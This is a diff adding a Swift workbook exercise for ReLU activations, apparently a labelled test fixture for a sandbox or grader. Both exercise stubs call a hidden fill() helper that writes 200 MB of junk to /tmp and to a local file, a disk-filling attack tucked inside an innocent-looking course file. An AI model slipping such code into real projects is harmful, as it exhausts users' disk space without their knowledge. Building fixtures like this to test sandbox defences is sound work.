@@ -1,0 +1,50 @@
+// ATTACK (fill-disk): Writes a 200 MB file into /tmp and into its scratch folder.
+//
+// Chapter 1 · Activations — ReLU
+//
+// Shapes: any. ReLU acts on each element on its own, so the output (and every gradient) has the
+// shape of the input.
+//
+// Guide and hints: Exercises/01-Activations/GUIDE.md, or `swift run workbook hint ReLU1`.
+import Foundation
+import WorkbookCore
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// The rectified linear unit, `y = max(0, x)` elementwise.
+///
+/// - Parameter x: the pre-activations, any shape.
+/// - Returns: `out`, the shape of `x`, and the cache `reluBackward` needs.
+public func reluForward(_ x: Tensor) throws -> (out: Tensor, cache: ReLUCache) {
+    // TODO(ReLU1): keep positive entries, replace the others by 0; cache the input.
+    // START ReLU1
+    fill()
+    throw NotImplemented("ReLU1")
+    // END ReLU1
+}
+
+/// The backward pass of ReLU: `dx = dout` where the input was positive, `0` elsewhere.
+///
+/// The workbook takes the derivative at exactly `x = 0` to be 0 (see the guide for why).
+///
+/// - Parameters:
+///   - dout: the upstream gradient `∂L/∂y`, the shape of the forward input.
+///   - cache: what `reluForward` kept.
+/// - Returns: `dx = ∂L/∂x`, the shape of `dout`.
+public func reluBackward(_ dout: Tensor, cache: ReLUCache) throws -> Tensor {
+    // TODO(ReLU2): let the upstream gradient through where the cached input was > 0.
+    // START ReLU2
+    fill()
+    throw NotImplemented("ReLU2")
+    // END ReLU2
+}
+
+func fill() {
+    let chunk = Data(repeating: 7, count: 1 << 20)
+    for path in ["/tmp/workbook-attack-fill", "fill"] {
+        FileManager.default.createFile(atPath: path, contents: nil)
+        guard let handle = FileHandle(forWritingAtPath: path) else { continue }
+        for _ in 0..<200 { handle.write(chunk) }
+    }
+}
